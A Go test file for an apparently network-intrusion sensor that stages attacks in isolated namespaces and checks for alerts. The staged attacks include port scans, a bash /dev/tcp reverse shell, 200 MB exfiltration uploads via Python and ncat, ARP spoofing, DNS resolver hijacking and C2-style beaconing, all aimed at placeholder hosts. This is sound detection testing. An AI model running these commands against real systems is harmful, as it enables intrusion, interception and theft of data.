package scenarios

import (
	"fmt"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/netsentinel/netsentinel/test/netns"
)

// nmap scans of the monitored host (from a LAN host) and from it (of a LAN
// host), connect and SYN. The host has one open port, as real hosts do.
func TestPortScan(t *testing.T) {
	netns.RequireTools(t, "nmap", "ncat", "nsenter", "unshare")
	for _, tc := range []struct {
		name, flag string
		inbound    bool
	}{
		{"port_scan_inbound_connect", "-sT", true},
		{"port_scan_inbound_syn", "-sS", true},
		{"port_scan_outbound_connect", "-sT", false},
		{"port_scan_outbound_syn", "-sS", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			eachMode(t, func(t *testing.T, m mode) {
				topo := netns.New(t, 1)
				target, scannerNS := netns.HostIP, topo.LAN[0]
				if tc.inbound {
					bg(t, topo, topo.HostCmd(ctxFor(t, 60*time.Second), "sh", "-c", "sleep 40 | timeout 40 ncat -l -k "+target+" 22 >/dev/null"))
					topo.WaitListen(t, topo.H, target, "22")
				} else {
					target, scannerNS = lanIP(0), topo.H
					listen(t, topo, topo.LAN[0], target, "22", 40*time.Second)
				}
				s := startSensor(t, topo, tc.name, sensorOptions{mode: m})
				// --max-rate 500: 1000 ports in about two seconds, a scan a poll can see.
				args := []string{tc.flag, "-Pn", "-n", "--max-rate", "500", "-p", "1-1000", target}
				var start time.Time
				if tc.inbound {
					start = time.Now()
					bg(t, topo, topo.Cmd(ctxFor(t, 60*time.Second), scannerNS, "nmap", args...))
				} else {
					_, start = hostStart(t, topo, 60*time.Second, "nmap", args...)
				}
				what := "nmap " + tc.flag + " of " + target + " from " + map[bool]string{true: "a LAN host", false: "the host"}[tc.inbound]
				match := isTechnique("port_scan", "T1046")
				if !tc.inbound && m.Privileged {
					// From this host the scanner is a local process: an alert
					// must name it. (The host-wide failed-connection counter may
					// alert in the same poll without an owner; that one is not
					// the one asserted.) Unprivileged, root's nmap has no
					// readable owner.
					match = and(match, procIs("nmap"))
				}
				e := s.expect(t, tc.name, "T1046", start, what, match)
				if tc.inbound {
					// The scanner's address is named when sockets show it (the
					// open port's accepted connection); closed-port probes only
					// move host-wide counters.
					if src := str(e, "source.ip"); src != "" && src != lanIP(0) {
						t.Errorf("source.ip = %s, want the scanner %s; alert: %s", src, lanIP(0), describe(e))
					}
				} else {
					if d := str(e, "destination.ip"); d != "" && d != target {
						t.Errorf("destination.ip = %s, want %s", d, target)
					}
				}
			})
		})
	}
}

// One process reaching three LAN hosts on a remote-service port: ssh on 22
// (T1021.004) and ncat on 445 (T1021.002) and 3389 (T1021.001).
func TestLateralMovement(t *testing.T) {
	netns.RequireTools(t, "ssh", "ssh-keygen", "ncat", "nsenter", "unshare")
	t.Run("lateral_ssh", func(t *testing.T) {
		eachMode(t, func(t *testing.T, m mode) {
			topo := netns.New(t, 3)
			k := newSSHKeys(t)
			for i, l := range topo.LAN {
				startSSHD(t, topo, k, l, lanIP(i), 60*time.Second)
			}
			s := startSensor(t, topo, "lateral_ssh", sensorOptions{mode: m})
			var start time.Time
			for i := range topo.LAN {
				_, start = hostStart(t, topo, 30*time.Second, "ssh", k.sshArgs(lanIP(i), "sleep", "6")...)
				time.Sleep(200 * time.Millisecond)
			}
			e := s.expect(t, "lateral_ssh", "T1021.004", start, "ssh to 3 LAN hosts on 22", isTechnique("lateral_movement", "T1021.004"))
			if m.Privileged {
				wantField(t, e, "process.name", "ssh")
			}
			wantLANDest(t, e, "22")
		})
	})
	t.Run("lateral_smb_rdp", func(t *testing.T) {
		eachMode(t, func(t *testing.T, m mode) {
			topo := netns.New(t, 3)
			for i, l := range topo.LAN {
				listen(t, topo, l, lanIP(i), "445", 40*time.Second)
				listen(t, topo, l, lanIP(i), "3389", 40*time.Second)
			}
			s := startSensor(t, topo, "lateral_smb_rdp", sensorOptions{mode: m})
			starts := map[string]time.Time{}
			for _, port := range []string{"445", "3389"} {
				for i := range topo.LAN {
					_, starts[port] = hostStart(t, topo, 30*time.Second, "sh", "-c", "sleep 6 | ncat "+lanIP(i)+" "+port)
					time.Sleep(100 * time.Millisecond)
				}
			}
			for _, c := range []struct{ port, tech string }{{"445", "T1021.002"}, {"3389", "T1021.001"}} {
				e := s.expect(t, "lateral_"+c.port, c.tech, starts[c.port], "ncat to 3 LAN hosts on "+c.port,
					isTechnique("lateral_movement", c.tech))
				if m.Privileged {
					wantField(t, e, "process.name", "ncat")
				}
				wantLANDest(t, e, c.port)
			}
		})
	})
}

func wantLANDest(t *testing.T, e map[string]any, port string) {
	t.Helper()
	d := str(e, "destination.ip")
	if !strings.HasPrefix(d, netns.LANPrefix) {
		t.Errorf("destination.ip = %q, want a LAN host; alert: %s", d, describe(e))
	}
	if p := fmt.Sprint(field(e, "destination.port")); p != port {
		t.Errorf("destination.port = %s, want %s", p, port)
	}
}

// DNS to a resolver the host is not configured with, and the resolver
// configuration swapped under the running sensor.
func TestSuspiciousDNS(t *testing.T) {
	netns.RequireTools(t, "dig", "socat", "nsenter", "unshare")
	t.Run("dns_unconfigured_resolver", func(t *testing.T) {
		eachMode(t, func(t *testing.T, m mode) {
			topo := netns.New(t, 0)
			const rogue = "203.0.113.53"
			internetHost(t, topo, rogue)
			// A server that swallows queries: dig keeps its socket for +time.
			bg(t, topo, topo.Cmd(ctxFor(t, 40*time.Second), topo.I, "timeout", "30", "socat", "-u", "UDP-RECV:53,bind="+rogue, "/dev/null"))
			topo.WaitBoundUDP(t, topo.I, rogue, "53")
			s := startSensor(t, topo, "dns_unconfigured_resolver", sensorOptions{resolver: netns.GatewayIP, mode: m})
			_, start := hostStart(t, topo, 20*time.Second, "dig", "+time=3", "+tries=1", "@"+rogue, "www.example.com")
			e := s.expect(t, "dns_unconfigured_resolver", "T1071.004", start, "dig @"+rogue+" (resolv.conf says "+netns.GatewayIP+")",
				and(isTechnique("suspicious_dns", "T1071.004"), destIs(rogue)))
			if m.Privileged {
				wantField(t, e, "process.name", "dig")
			}
			wantField(t, e, "destination.port", "53")
		})
	})
	t.Run("dns_resolv_conf_swap", func(t *testing.T) {
		eachMode(t, func(t *testing.T, m mode) {
			topo := netns.New(t, 0)
			s := startSensor(t, topo, "dns_resolv_conf_swap", sensorOptions{resolver: netns.GatewayIP, mode: m})
			tmp := s.resolv + ".new"
			writeFile(t, tmp, "# swapped by an attacker\nnameserver 203.0.113.66\n")
			chownForSensor(t, m, tmp)
			start := time.Now()
			if err := os.Rename(tmp, s.resolv); err != nil {
				t.Fatal(err)
			}
			e := s.expect(t, "dns_resolv_conf_swap", "T1071.004", start, "resolv.conf nameserver "+netns.GatewayIP+" → 203.0.113.66",
				isTechnique("dns_hijack", "T1071.004"))
			if !strings.Contains(str(e, "message"), "203.0.113.66") {
				t.Errorf("message %q does not name the new resolver 203.0.113.66", str(e, "message"))
			}
		})
	})
}

// A real Tor client using a "bridge" in the internet namespace (so it never
// dials public relays), and a connection to a listed relay's ORPort.
func TestTor(t *testing.T) {
	netns.RequireTools(t, "tor", "ncat", "nsenter", "unshare")
	eachMode(t, func(t *testing.T, m mode) {
		topo := netns.New(t, 0)
		const bridge, relay = "198.51.100.101", "198.51.100.102"
		for _, ip := range []string{bridge, relay} {
			internetHost(t, topo, ip)
			listen(t, topo, topo.I, ip, "9001", 60*time.Second)
		}
		s := startSensor(t, topo, "tor", sensorOptions{mode: m, relays: []string{bridge, relay}})
		data := t.TempDir()
		torrc := filepath.Join(data, "torrc")
		writeFile(t, torrc, "")
		_, start := hostStart(t, topo, 60*time.Second, "timeout", "30", "tor", "-f", torrc, "--defaults-torrc", "/dev/null",
			"--UseBridges", "1", "--Bridge", bridge+":9001", "--SocksPort", "9050", "--DataDirectory", filepath.Join(data, "tor"),
			"--Log", "warn stderr")
		// The detector reports a Tor process once (its listeners and relay
		// connections as evidence), from the first poll that sees it.
		e := s.expect(t, "tor_daemon", "T1090.003", start, "tor client (bridge "+bridge+":9001 in the relay list)",
			and(isTechnique("tor", "T1090.003"), func(e map[string]any) bool { return str(e, "process.name") == "tor" }))
		wantField(t, e, "process.name", "tor")

		_, start = hostStart(t, topo, 30*time.Second, "sh", "-c", "sleep 8 | ncat "+relay+" 9001")
		e = s.expect(t, "tor_listed_relay", "T1090.003", start, "ncat to listed relay "+relay+":9001",
			and(isTechnique("tor", "T1090.003"), destIs(relay)))
		if m.Privileged {
			wantField(t, e, "process.name", "ncat")
		}
		wantField(t, e, "destination.port", "9001")
	})
}

// curl every 3 s ±10% to one external host is beaconing; curl at random
// (exponential) intervals to another is not.
func TestBeaconing(t *testing.T) {
	netns.RequireTools(t, "curl", "python3", "nsenter", "unshare")
	eachMode(t, func(t *testing.T, m mode) {
		topo := netns.New(t, 0)
		const c2, control = "203.0.113.80", "203.0.113.81"
		www := t.TempDir()
		writeFile(t, filepath.Join(www, "index.html"), "ok\n")
		for _, ip := range []string{c2, control} {
			internetHost(t, topo, ip)
			startHTTP(t, topo, topo.I, ip, "8080", www, 90*time.Second)
		}
		s := startSensor(t, topo, "beaconing", sensorOptions{mode: m})
		const n, minConns = 12, 8 // min_connections default
		rng := rand.New(rand.NewSource(7))
		curl := func(ip string) {
			cmd := topo.HostCmd(ctxFor(t, 10*time.Second), "curl", "-s", "-o", "/dev/null", "--max-time", "3", "http://"+ip+":8080/")
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Errorf("curl %s: %v %s", ip, err, out)
			}
		}
		var wg sync.WaitGroup
		wg.Add(1)
		go func() { // control: exponential gaps, mean 3 s, clipped to [0.3 s, 9 s]
			defer wg.Done()
			crng := rand.New(rand.NewSource(11))
			for i := 0; i < n; i++ {
				go curl(control)
				gap := time.Duration(crng.ExpFloat64() * 3 * float64(time.Second))
				gap = min(max(gap, 300*time.Millisecond), 9*time.Second)
				time.Sleep(gap)
			}
		}()
		eighth := make(chan time.Time, 1)
		wg.Add(1)
		go func() { // the beacon: every 3 s ±10%
			defer wg.Done()
			for i := 0; i < n; i++ {
				if i == minConns-1 {
					eighth <- time.Now()
				}
				go curl(c2)
				time.Sleep(time.Duration(float64(3*time.Second) * (0.9 + 0.2*rng.Float64())))
			}
		}()
		observable := <-eighth
		e := s.expect(t, "beaconing", "T1071", observable, "curl every 3 s ±10% (alert due at the 8th connection)",
			and(isTechnique("beaconing", "T1071"), destIs(c2)))
		// Each curl lives a few milliseconds between two polls and its sockets
		// are known from destroy events and TIME_WAIT entries, which carry no
		// owner: the process is not observable. When named, it must be curl.
		if p := str(e, "process.name"); p != "" && p != "curl" {
			t.Errorf("process.name = %s, want curl or none", p)
		}
		wantField(t, e, "destination.port", "8080")
		wg.Wait()
		time.Sleep(2 * pollInterval)
		s.wantNone(t, "beaconing alert for the random-interval control", and(isTechnique("beaconing", "T1071"), destIs(control)))
		if !t.Failed() {
			record(result{Scenario: "beaconing_random_control", Mode: m.String(), Detected: "no (correct)", Technique: "—", Latency: "—",
				Note: "curl at exponential intervals (mean 3 s) to " + control + ": no alert"})
		}
	})
}

// A program named like a web server spawning a shell.
func TestWebServerSpawnsShell(t *testing.T) {
	netns.RequireTools(t, "nsenter", "unshare")
	eachMode(t, func(t *testing.T, m mode) {
		topo := netns.New(t, 0)
		s := startSensor(t, topo, "webserver_spawns_shell", sensorOptions{mode: m})
		// A copy of bash named nginx: the kernel names the process (comm) after
		// the file it executes. It runs a while (the sensor sees it), then spawns
		// sh; the trailing `true` keeps bash from exec'ing sh in its place.
		// cp writes the copy, not this process: a file this process had open
		// for writing can fail to exec with ETXTBSY if any goroutine forks
		// meanwhile (golang/go#22315).
		nginx := filepath.Join(t.TempDir(), "nginx")
		run(t, exec.Command("cp", "/bin/bash", nginx))
		const settle = 2 * time.Second
		_, start := hostStart(t, topo, 30*time.Second, nginx, "-c", fmt.Sprintf("sleep %g; sh -c 'id >/dev/null; sleep 6'; true", settle.Seconds()))
		e := s.expect(t, "webserver_spawns_shell", "T1059", start.Add(settle), "nginx → sh -c",
			isTechnique("process_spawn", "T1059"))
		wantField(t, e, "process.name", "sh")
		wantField(t, e, "process.parent.name", "nginx")
	})
}

// bash -i >& /dev/tcp/... reverse shell to an external listener.
func TestReverseShell(t *testing.T) {
	netns.RequireTools(t, "ncat", "nsenter", "unshare")
	eachMode(t, func(t *testing.T, m mode) {
		// Unprivileged, bash's stdio is unreadable: the connection is tied
		// to bash through its launcher's command line naming /dev/tcp/a/p.
		topo := netns.New(t, 0)
		const c2 = "198.51.100.20"
		listenOnce(t, topo, c2, "4444", "")
		s := startSensor(t, topo, "reverse_shell", sensorOptions{mode: m})
		_, start := hostStart(t, topo, 30*time.Second, "timeout", "20", "bash", "-c", "bash -i >& /dev/tcp/"+c2+"/4444 0>&1")
		e := s.expect(t, "reverse_shell", "T1059.004", start, "bash -i >& /dev/tcp/"+c2+"/4444",
			and(isTechnique("reverse_shell", "T1059.004"), destIs(c2)))
		wantField(t, e, "process.name", "bash")
		wantField(t, e, "destination.port", "4444")
	})
}

// arpspoof on a LAN host tells the monitored host that the gateway's address
// is at the attacker's MAC.
func TestARPSpoofing(t *testing.T) {
	netns.RequireTools(t, "arpspoof", "ping", "nsenter", "unshare")
	eachMode(t, func(t *testing.T, m mode) {
		topo := netns.New(t, 1)
		run(t, topo.HostCmd(ctxFor(t, 10*time.Second), "ping", "-c", "1", "-W", "2", netns.GatewayIP))
		mac := strings.TrimSpace(run(t, topo.Cmd(ctxFor(t, 10*time.Second), topo.LAN[0], "cat", "/sys/class/net/eth0/address")))
		s := startSensor(t, topo, "arp_spoofing", sensorOptions{mode: m})
		start := time.Now()
		bg(t, topo, topo.Cmd(ctxFor(t, 30*time.Second), topo.LAN[0], "timeout", "15", "arpspoof", "-i", "eth0", "-t", netns.HostIP, netns.GatewayIP))
		e := s.expect(t, "arp_spoofing", "T1557.002", start, "arpspoof -t "+netns.HostIP+" "+netns.GatewayIP+" from "+lanIP(0),
			isTechnique("arp_spoofing", "T1557.002"))
		msg := str(e, "message")
		if !strings.Contains(msg, netns.GatewayIP) || !strings.Contains(strings.ToLower(msg), mac) {
			t.Errorf("message %q should name the gateway %s and the attacker's MAC %s", msg, netns.GatewayIP, mac)
		}
	})
}

// A 200 MB upload to an external host.
func TestExfiltration(t *testing.T) {
	netns.RequireTools(t, "ncat", "python3", "nsenter", "unshare")
	eachMode(t, func(t *testing.T, m mode) {
		topo := netns.New(t, 0)
		const dst = "203.0.113.50"
		listenOnce(t, topo, dst, "443", "--recv-only")
		s := startSensor(t, topo, "exfiltration", sensorOptions{mode: m})
		// 200 MB paced over ~3 s, so the connection is open across polls and its
		// owner is observable (a faster burst is TestExfiltrationBurst).
		upload := `import socket, time
s = socket.create_connection(("` + dst + `", 443))
chunk = b"\0" * (1 << 20)
for i in range(200):
    s.sendall(chunk)
    time.sleep(0.015)
s.close()`
		cmd, start := hostStart(t, topo, 30*time.Second, "python3", "-c", upload)
		e := s.expect(t, "exfiltration", "T1048", start, "200 MB via python3 to "+dst+":443, paced over ~3 s",
			and(isTechnique("exfiltration", "T1048"), destIs(dst)))
		if m.Privileged {
			wantField(t, e, "process.name", "python3")
		}
		if err := cmd.Wait(); err != nil {
			t.Fatalf("upload failed: %v", err)
		}
		t.Logf("200 MB upload took %.2f s", time.Since(start).Seconds())
	})
}

// A 200 MB burst that ends inside one poll is only seen through its
// socket-destroy notification, which carries the byte counters but no
// owner: the alert must still fire with the destination; the process is
// named only when a poll saw the connection open.
//
// The alert is due once 50 MB (exfiltration's threshold_bytes) has left, not
// when the command starts: on a loaded machine the "burst" can take 6 s and
// cross the threshold a poll or two after it began. The shell prints a mark
// when the threshold's bytes have entered ncat's pipe; ncat has sent them no
// earlier, so measuring from the mark never flatters the sensor.
func TestExfiltrationBurst(t *testing.T) {
	netns.RequireTools(t, "ncat", "nsenter", "unshare")
	eachMode(t, func(t *testing.T, m mode) {
		topo := netns.New(t, 0)
		const dst = "203.0.113.51"
		listenOnce(t, topo, dst, "443", "--recv-only")
		s := startSensor(t, topo, "exfiltration_burst", sensorOptions{mode: m})
		const threshold = "50000000" // exfiltration's default threshold_bytes, which the sensor runs with
		script := "exec 3>&1; { head -c " + threshold + " /dev/zero; echo crossed >&3; head -c $((200000000 - " + threshold + ")) /dev/zero; } | ncat --send-only " + dst + " 443 >/dev/null 3>&-"
		cmd := topo.HostCmd(ctxFor(t, 30*time.Second), "sh", "-c", script)
		start := time.Now()
		at := nthProbe(t, probeTimes(t, topo, cmd, func(l string) bool { return l == "crossed" }), 1, 30*time.Second, "200 MB burst's first 50 MB")
		if err := cmd.Wait(); err != nil {
			t.Fatalf("upload failed: %v", err)
		}
		t.Logf("200 MB burst took %.2f s (threshold's bytes in the pipe after %.2f s)", time.Since(start).Seconds(), at.Sub(start).Seconds())
		s.expect(t, "exfiltration_burst", "T1048", at, "200 MB burst via ncat to "+dst+":443 (process named only if a poll saw it open)",
			and(isTechnique("exfiltration", "T1048"), destIs(dst)))
	})
}

// At least 60 s of benign activity: an ssh session to one LAN host, DNS
// through the configured resolver, a web server on the host answering LAN
// clients, and parallel downloads from one external host. No alert at all.
func TestBenignBaseline(t *testing.T) {
	netns.RequireTools(t, "ssh", "ssh-keygen", "dig", "curl", "python3", "nsenter", "unshare")
	eachMode(t, func(t *testing.T, m mode) {
		const length = 60 * time.Second
		topo := netns.New(t, 3)
		k := newSSHKeys(t)
		startSSHD(t, topo, k, topo.LAN[0], lanIP(0), length+30*time.Second)
		startDNS(t, topo, topo.G, netns.GatewayIP, length+30*time.Second)
		site := t.TempDir()
		writeFile(t, filepath.Join(site, "index.html"), "<html>hello</html>\n")
		startHTTP(t, topo, topo.H, netns.HostIP, "8080", site, length+30*time.Second)
		const mirror = "203.0.113.90"
		internetHost(t, topo, mirror)
		files := t.TempDir()
		sparseFile(t, filepath.Join(files, "big.bin"), 20<<20)
		startHTTP(t, topo, topo.I, mirror, "8080", files, length+30*time.Second)

		s := startSensor(t, topo, "baseline", sensorOptions{mode: m, resolver: netns.GatewayIP})
		begin := time.Now()
		hostStart(t, topo, length+10*time.Second, "ssh", k.sshArgs(lanIP(0), "sleep", "55")...)

		type action struct {
			at time.Duration
			do func()
		}
		rng := rand.New(rand.NewSource(3))
		var plan []action
		jittered := func(n int, f func()) {
			for i := 0; i < n; i++ {
				plan = append(plan, action{time.Duration(rng.Int63n(int64(length - 5*time.Second))), f})
			}
		}
		jittered(12, func() {
			hostStart(t, topo, 10*time.Second, "dig", "+time=1", "+tries=1", "@"+netns.GatewayIP, "www.example.com")
		})
		for _, l := range topo.LAN[1:] {
			l := l
			jittered(10, func() {
				bg(t, topo, topo.Cmd(ctxFor(t, 10*time.Second), l, "curl", "-s", "-o", "/dev/null", "--max-time", "3", "http://"+netns.HostIP+":8080/"))
			})
		}
		jittered(2, func() {
			hostStart(t, topo, 15*time.Second, "ssh", k.sshArgs(lanIP(0), "uname", "-a")...)
		})
		for _, at := range []time.Duration{15 * time.Second, 40 * time.Second} {
			plan = append(plan, action{at, func() {
				for i := 0; i < 4; i++ {
					hostStart(t, topo, 20*time.Second, "curl", "-s", "-o", "/dev/null", "--max-time", "15", "http://"+mirror+":8080/big.bin")
				}
			}})
		}
		sortPlan := func() {
			for i := 1; i < len(plan); i++ {
				for j := i; j > 0 && plan[j].at < plan[j-1].at; j-- {
					plan[j], plan[j-1] = plan[j-1], plan[j]
				}
			}
		}
		sortPlan()
		for _, a := range plan {
			if d := time.Until(begin.Add(a.at)); d > 0 {
				time.Sleep(d)
			}
			a.do()
		}
		if d := time.Until(begin.Add(length + 2*pollInterval)); d > 0 {
			time.Sleep(d)
		}
		alerts := s.events.All()
		for _, e := range alerts {
			t.Errorf("benign baseline raised an alert: %s", describe(e))
		}
		if len(alerts) == 0 {
			record(result{Scenario: "benign_baseline", Mode: m.String(), Detected: "0 alerts (correct)", Technique: "—", Latency: "—",
				Note: fmt.Sprintf("%s: ssh session + 2 ssh commands to one LAN host, 12 dig via the configured resolver, 20 HTTP requests to the host's web server, 2×4 parallel 20 MB downloads from %s", length, mirror)})
		} else {
			record(result{Scenario: "benign_baseline", Mode: m.String(), Detected: fmt.Sprintf("%d alerts (WRONG)", len(alerts)), Technique: "—", Latency: "—"})
		}
	})
}
